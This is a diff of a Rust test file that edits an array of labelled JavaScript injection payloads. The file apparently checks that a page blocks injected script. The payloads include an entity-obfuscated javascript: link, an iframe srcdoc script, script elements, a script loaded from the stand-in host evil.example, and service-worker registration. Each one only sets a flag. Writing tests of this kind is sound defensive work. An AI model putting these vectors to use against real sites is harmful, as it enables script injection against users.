@@ -94,14 +94,14 @@ const INJECTIONS: [(&str, &str); 12] = [
         "letters as numbers",
         "document.body.insertAdjacentHTML('beforeend', '<a href=\"java&#115;cript:injected = 1\">x</a>')",
     ),
-    ("a page in a frame", "document.createElement('iframe').srcdoc = '<p>x'"),
+    ("a page in a frame", "document.createElement('iframe').srcdoc = '<script>parent.injected = 1</script>'"),
     (
         "script as text",
         "const it = document.createElement('script'); it.textContent = 'injected = 1'; document.head.append(it)",
     ),
     ("script from elsewhere", "document.createElement('script').src = 'https://evil.example/x.js'"),
     ("script from here", "document.createElement('script').src = '/sw.js?x'"),
-    ("another worker", "navigator.serviceWorker.register('/assets/x.js')"),
+    ("another worker", "await navigator.serviceWorker.register('/sw.js?another')"),
     ("a handler as an attribute", "document.body.setAttribute('onclick', 'injected = 1'); document.body.click()"),
 ];
 
